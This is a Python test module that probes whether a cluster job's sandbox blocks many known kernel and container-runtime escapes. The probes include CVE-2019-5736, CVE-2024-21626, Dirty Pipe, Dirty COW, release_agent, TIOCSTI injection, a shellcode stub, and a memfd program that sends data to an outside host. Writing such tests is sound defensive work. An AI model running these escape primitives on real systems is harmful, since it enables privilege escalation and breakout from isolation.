"""What was reported of kernels, container runtimes and their like, tried from a step. `how` names the report.

A report that is closed on this machine cannot be shown without the fence: `absent` says so. Nothing here writes to a switch of the machine:
that it can be opened is the way out.
"""
import ctypes
import fcntl
import mmap
import os
import signal
import socket
import struct
import subprocess
import termios

from common import Stopped, attempt, call
from kernel import stranger

SECCOMP = "seccomp"
PROC = "/proc and /sys of the view: read-only, or not there"
NO_RISE = "no_new_privs; nosuid"
VIEW = "mount namespace: no such place, or a private one"
PATCHED = "it is closed on this machine, without the fence too"
USER, MOUNT, NETWORK, CGROUP = 0x10000000, 0x20000, 0x40000000, 0x2000000


def reported(name, report, how, layer, **more):
    return attempt("reported-" + name, f"{how} ({report})", layer, **more)


def parents():
    """The processes above this one, up to the first that is not to be seen."""
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            return


# --- container runtimes

@reported("runtime-program", "CVE-2019-5736", "overwrite the program that started the step, by /proc/PID/exe", "the program is root's; Landlock domain", opens=True, absent=PATCHED)
def _(t):
    for pid in parents():
        try:
            os.close(os.open(os.readlink(f"/proc/{pid}/exe"), os.O_WRONLY))
            return
        except OSError:
            continue
    raise Stopped("none may be written")


@reported("runtime-program-again", "CVE-2019-5736", "the same through a path-only descriptor, opened again", "the program is root's; Landlock domain", opens=True, absent=PATCHED)
def _(t):
    for pid in parents():
        try:
            os.close(os.open(f"/proc/self/fd/{os.open(f'/proc/{pid}/exe', os.O_PATH)}", os.O_WRONLY))
            return
        except OSError:
            continue
    raise Stopped("none may be written")


@reported("leaked-folder", "CVE-2024-21626", "a folder outside that an inherited descriptor leads to", "slurmstepd's descriptors are closed at exec", opens=True, absent=PATCHED)
def _(t):
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.path.isdir(f"/proc/self/fd/{fd}") and not os.readlink(f"/proc/self/fd/{fd}").startswith("/proc"):
                os.listdir(f"/proc/self/fd/{fd}/../../../../home/e-alice")
                return
        except OSError:
            continue
    raise Stopped("no folder among its descriptors")


@reported("parent-folder", "CVE-2024-21626", "the working folder of what started the step (/proc/PID/cwd)", "Landlock domain", opens=True, absent=PATCHED)
def _(t):
    for pid in parents():
        try:
            if os.path.exists(f"/proc/{pid}/cwd/../../../../../etc/shadow") and os.stat(f"/proc/{pid}/root").st_ino != os.stat("/").st_ino:
                return
        except OSError:
            continue
    raise Stopped("none leads out")


@reported("release-agent", "CVE-2022-0492", "a release_agent of cgroups, which the kernel runs as root, in namespaces of one's own", SECCOMP, opens=True, absent=PATCHED)
def _(t):
    call(272, USER | MOUNT | CGROUP)
    os.makedirs("/tmp/release", exist_ok=True)
    call(165, b"cgroup", b"/tmp/release", b"cgroup", 0, b"rdma")
    os.close(os.open("/tmp/release/release_agent", os.O_WRONLY))


@reported("release-agent-there", "CVE-2022-0492", "one that is mounted already", PROC + "; no cgroup file system", opens=True, absent="a host of the test cluster has a cgroup namespace: the file is only at the machine's root")
def _(t):
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        if "release_agent" in files:
            os.close(os.open(os.path.join(folder, "release_agent"), os.O_WRONLY))
            return
    raise Stopped("no such file")


@reported("user-overlay", "CVE-2023-0386, CVE-2021-3493", "an overlay mounted in a user namespace", SECCOMP, opens=True)
def _(t):
    user, group = os.getuid(), os.getgid()
    call(272, USER | MOUNT)
    for name, text in (("uid_map", f"0 {user} 1"), ("setgroups", "deny"), ("gid_map", f"0 {group} 1")):
        with open("/proc/self/" + name, "w") as f:
            f.write(text)
    os.makedirs("/tmp/overlay", exist_ok=True)
    call(165, b"none", b"/tmp/overlay", b"tmpfs", 0, 0)
    for name in ("lower", "upper", "work", "merged"):
        os.mkdir("/tmp/overlay/" + name)
    call(165, b"overlay", b"/tmp/overlay/merged", b"overlay", 0, b"lowerdir=/tmp/overlay/lower,upperdir=/tmp/overlay/upper,workdir=/tmp/overlay/work")


@reported("fsconfig", "CVE-2022-0185", "a long parameter of a file system's context in a user namespace", SECCOMP, opens=True)
def _(t):
    call(272, USER | MOUNT)
    fd = call(430, b"tmpfs", 0)
    try:
        call(431, fd, 1, b"\0", b"A" * 255, 0)  # FSCONFIG_SET_STRING: a parameter without a name
    except OSError as error:
        if error.errno != 22:
            raise


@reported("packet-in-namespace", "CVE-2017-7308, CVE-2020-14386", "a packet socket in network and user namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).close()


@reported("nftables-in-namespace", "CVE-2022-32250, CVE-2024-1086", "nf_tables in network and user namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as s:
        s.bind((0, 0))


@reported("xtables-in-namespace", "CVE-2021-22555", "iptables' options of a socket in namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()


@reported("xfrm-in-namespace", "CVE-2022-27666", "IPsec's tables in namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 6).close()


@reported("traffic-in-namespace", "CVE-2023-1281, CVE-2022-2588", "queues of a network card in namespaces of one's own", SECCOMP, opens=True)
def _(t):
    call(272, USER | NETWORK)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        body = struct.pack("BBHiIII", 0, 0, 0, socket.if_nametoindex("lo"), 0xFFFF0000, 0xFFFFFFF1, 0) + struct.pack("HH8s", 12, 1, b"ingress\0")
        s.send(struct.pack("IHHII", 16 + len(body), 36, 0x605, 1, 0) + body)  # RTM_NEWQDISC
        code = struct.unpack_from("i", s.recv(4096), 16)[0]
        if code not in (0, -2, -22, -95):  # it may lack the queue; that it asks is the door
            raise OSError(-code, os.strerror(-code))


@reported("namespace-shared-folder", "CVE-2013-1858", "a user namespace that shares its root with others (CLONE_NEWUSER | CLONE_FS)", SECCOMP, opens=True, absent=PATCHED)
def _(t):
    pid = call(56, USER | 0x200 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


@reported("shim-sockets", "CVE-2020-15257", "every abstract socket that /proc/net/unix shows", "Landlock scope")
def _(t):
    with open("/proc/net/unix") as f:
        names = {word for line in f for word in line.split()[7:] if word.startswith("@aloft-")}
    sent, refusals = 0, []
    for name in names:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                with socket.socket(socket.AF_UNIX, kind) as s:
                    s.settimeout(1)
                    s.connect("\0" + name[1:])
                    s.send(t.mark)
                    sent += 1
            except OSError as error:
                if error.errno in (1, 13):  # others are of another kind than this one
                    refusals.append(error)
    if not sent:
        raise refusals[0] if refusals else Stopped("none is shown")


@reported("masked-path", "CVE-2025-31133, CVE-2025-52881", "a name of one's own beside /dev/null, for a runtime that binds it", "a /dev of the job's own, read-only", opens=True, privilege="/dev is root's")
def _(t):
    os.symlink("/proc/sys/kernel/core_pattern", "/dev/" + t.text)
    os.unlink("/dev/" + t.text)


@reported("console", "CVE-2025-52565", "a console that the runtime makes: /dev/ptmx and a name for it", "a /dev of the job's own, read-only", opens=True, privilege="/dev is root's")
def _(t):
    os.symlink("/dev/ptmx", "/dev/" + t.text)
    os.unlink("/dev/" + t.text)


# --- the kernel's switches: opened, never written

SWITCHES = {"core-pattern": ("/proc/sys/kernel/core_pattern", os.O_WRONLY, "container escapes by core_pattern"), "usermodehelper": ("/proc/sys/kernel/usermodehelper/bset", os.O_WRONLY, "escapes by helpers"),
            "panic": ("/proc/sys/vm/panic_on_oom", os.O_WRONLY, "CVE-2016-3697 and kin"), "timer-list": ("/proc/timer_list", os.O_RDONLY, "CVE-2017-16539"),
            "page-counts": ("/proc/kpagecount", os.O_RDONLY, "rowhammer"), "page-flags": ("/proc/kpageflags", os.O_RDONLY, "rowhammer"),
            "ksm": ("/sys/kernel/mm/ksm/run", os.O_WRONLY, "CVE-2015-2877"), "slabs": ("/proc/slabinfo", os.O_RDONLY, "slab side channels"),
            "vmalloc": ("/proc/vmallocinfo", os.O_RDONLY, "kernel addresses"), "addresses": ("/proc/sys/kernel/randomize_va_space", os.O_WRONLY, "container escapes"),
            "dumpable": ("/proc/sys/fs/suid_dumpable", os.O_WRONLY, "CVE-2006-2451"), "power": ("/sys/power/state", os.O_WRONLY, "CVE-2018-16884 and kin"),
            "init-memory": ("/proc/1/mem", os.O_RDWR, "CVE-2012-0056"),
            "init-pid": ("/proc/sys/kernel/cad_pid", os.O_WRONLY, "container escapes"), "page-types": ("/proc/pagetypeinfo", os.O_RDONLY, "memory side channels"),
            "drop-caches": ("/proc/sys/vm/drop_caches", os.O_WRONLY, "page cache attacks, CVE-2019-5489")}
for label, (path, mode, report) in SWITCHES.items():
    @reported("switch-" + label, report, f"open {path}", PROC + "; not the account's", opens=True, privilege="it is root's")
    def _(t, path=path, mode=mode): os.close(os.open(path, mode))

MISSING = {"sysrq": "/proc/sysrq-trigger", "modprobe": "/proc/sys/kernel/modprobe", "uevent": "/sys/kernel/uevent_helper", "binfmt": "/proc/sys/fs/binfmt_misc/register",
           "kcore": "/proc/kcore", "trace-marker": "/sys/kernel/tracing/trace_marker", "efi": "/sys/firmware/efi/efivars", "idle-pages": "/sys/kernel/mm/page_idle/bitmap"}
for label, path in MISSING.items():
    @reported("switch-" + label, "container escapes", f"open {path}", PROC + "; not the account's", opens=True,
              **({"privilege": "it is root's"} if os.path.exists(path) else {"absent": "this kernel has none"}))
    def _(t, path=path): os.close(os.open(path, os.O_RDONLY if path.endswith(("kcore", "efivars")) else os.O_WRONLY))


@reported("last-pid", "checkpoints' ns_last_pid as a notice board", "the number of the next process", "no capabilities", opens=True, privilege="it needs CAP_CHECKPOINT_RESTORE")
def _(t):
    with open("/proc/sys/kernel/ns_last_pid", "r+") as f:
        last = f.read()
        f.seek(0)
        f.write(last)


# --- pages and memory that are others' too

def must_change(path, before):
    with open(path, "rb") as f:
        if f.read(64) == before:
            raise Stopped("the file is as it was")


@reported("dirty-pipe", "CVE-2022-0847", "write into a page of a dataset's file by a pipe", "the kernel; datasets are mounted read-only", opens=True, absent=PATCHED)
def _(t):
    path = os.path.join(t.data, "shared-file")
    with open(path, "rb") as f:
        before = f.read(64)
        out, into = os.pipe()
        size = fcntl.fcntl(into, 1032)  # F_GETPIPE_SZ
        os.write(into, b"\0" * size)
        os.read(out, size)
        os.splice(f.fileno(), into, 1, offset_src=0)
    os.write(into, t.mark)
    must_change(path, before)


@reported("dirty-cow", "CVE-2016-5195", "write into a private page of a file that is only read, while it is given back", "the kernel; datasets are mounted read-only", opens=True, absent=PATCHED)
def _(t):
    path = os.path.join(t.data, "shared-file")
    with open(path, "rb") as f, mmap.mmap(f.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ) as page, open("/proc/self/mem", "r+b", buffering=0) as memory:
        before = page[:64]
        with open("/proc/self/maps") as maps:
            start = next(int(line.split("-")[0], 16) for line in maps if line.rstrip().endswith(path))
        for _ in range(200):
            memory.seek(start)
            memory.write(t.mark)
            page.madvise(mmap.MADV_DONTNEED)
    must_change(path, before)


@reported("vmsplice", "CVE-2008-0600", "give pages of a file that is only read to a pipe, and write there", "the kernel; datasets are mounted read-only", opens=True, absent=PATCHED)
def _(t):
    path = os.path.join(t.data, "shared-file")
    with open(path, "rb") as f, mmap.mmap(f.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE) as page:
        before = page[:64]
        out, into = os.pipe()
        where = ctypes.c_char.from_buffer(page)
        call(278, into, struct.pack("PN", ctypes.addressof(where), 64), 1, 8)  # SPLICE_F_GIFT
        ctypes.memmove(ctypes.addressof(where), t.mark, min(len(t.mark), 64))
        os.read(out, 64)
        del where
    must_change(path, before)


@reported("memory-file", "programs that are on no disk", "run a program from memory (memfd) that connects to outside", "the fence is inherited, whatever runs")
def _(t):
    fd = os.memfd_create("program", 0)
    os.write(fd, f"import socket; s = socket.create_connection(({t.outside!r}, {t.port}), 3); s.send({t.mark!r})".encode())
    done = subprocess.run(["/usr/bin/python3", f"/proc/self/fd/{fd}"], pass_fds=[fd], capture_output=True, text=True, timeout=4)
    if done.returncode:
        raise Stopped((done.stderr.strip().splitlines() or [""])[-1][:120])


@reported("session-keyring", "CVE-2016-0728", "a session keyring by name", SECCOMP, opens=True)
def _(t): call(250, 1, t.mark)


@reported("traced-parent", "CVE-2019-13272", "a traced child that starts a setuid program", NO_RISE, opens=True, absent=PATCHED)
def _(t):
    child = os.fork()
    if child == 0:
        call(101, 0, 0, 0, 0)
        os.execv("/usr/bin/su", ["su"])
    os.waitpid(child, 0)
    with open(f"/proc/{child}/status") as f:
        effective = next(line.split()[2] for line in f if line.startswith("Uid:"))
    os.kill(child, signal.SIGKILL)
    if effective != "0":
        raise Stopped(f"it runs as {effective}")


@reported("terminal-input", "CVE-2016-2779, CVE-2017-5226", "keys pushed into a terminal outside (TIOCSTI)", "a /dev of the job's own: no terminals", opens=True,
          absent="only into the controlling terminal, without the fence too")
def _(t):
    with open(os.path.join(t.work, "terminal." + socket.gethostname())) as f:
        terminal = os.open(f.read(), os.O_RDWR | os.O_NOCTTY)
    for byte in t.mark:
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))


@reported("terminal-selection", "CVE-2023-1523", "the console's selection pasted into a terminal (TIOCLINUX)", "a /dev of the job's own: no terminals", opens=True,
          absent="there is no console that an account may open")
def _(t): fcntl.ioctl(os.open("/dev/tty0", os.O_RDWR | os.O_NOCTTY), 0x541C, b"\x03")


@reported("other-architecture", "CVE-2009-0835", "a call of 32-bit programs (int 0x80), whose numbers a filter may not know: a user namespace", SECCOMP + ", which knows one architecture", opens=True)
def _(t):
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"  # push rbx; eax = 310 (unshare); ebx = CLONE_NEWUSER; int 0x80; pop rbx; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if result < 0:
        raise OSError(-result, os.strerror(-result))


@reported("x32", "CVE-2014-0038", "a call by its x32 number, which a filter may not know: a user namespace", SECCOMP + ", which knows one architecture", opens=True,
          absent="this kernel has no x32")
def _(t): call(0x40000000 | 272, USER)


@reported("filter-of-own", "seccomp's user notification as a way around", "answer one's own calls as a supervisor, and go on (SECCOMP_USER_NOTIF_FLAG_CONTINUE)", SECCOMP + ": filters add up, the strictest wins", opens=True)
def _(t):
    libc = ctypes.CDLL(None)
    libc.prctl(38, 1, 0, 0, 0)
    program = struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)  # return allow
    buffer = ctypes.create_string_buffer(program)
    call(317, 1, 0, struct.pack("HxxxxxxP", 1, ctypes.addressof(buffer)))
    call(272, USER)


@reported("unix-rights-storm", "CVE-2021-0920", "descriptors in flight between sockets, collected while they are read; then a call to outside", "cgroup BPF, connect and sendmsg")
def _(t):
    for _ in range(50):
        a, b = socket.socketpair()
        socket.send_fds(a, [b"x"], [a.fileno(), b.fileno()])
        a.close()
        b.close()
    with socket.create_connection((t.outside, t.port), 3) as s:
        s.send(t.mark)


@reported("raw-by-ping", "CVE-2017-2671", "a ping socket, unbound and bound again, and its echo", "cgroup BPF, connect and sendmsg")
def _(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.bind(("0.0.0.0", 0))
        s.sendto(b"\x08\0\0\0\0\1\0\1" + t.mark, (t.outside, 0))


@reported("numa-move", "CVE-2017-14140", "where pages of a process outside lie (move_pages)", "Landlock domain; seccomp", opens=True)
def _(t):
    status = (ctypes.c_int * 1)()
    call(279, stranger(t), 1, struct.pack("P", 4096), 0, status, 0)


@reported("io-priority", "CVE-2022-29581 and kin: shared I/O contexts", "the I/O priority of a process outside", "Landlock domain; seccomp", opens=True,
          allowed="it needs a process of the same account outside the job on the node: enclave accounts have no logins there")
def _(t): call(251, 1, stranger(t), 2 << 13 | t.number % 8)


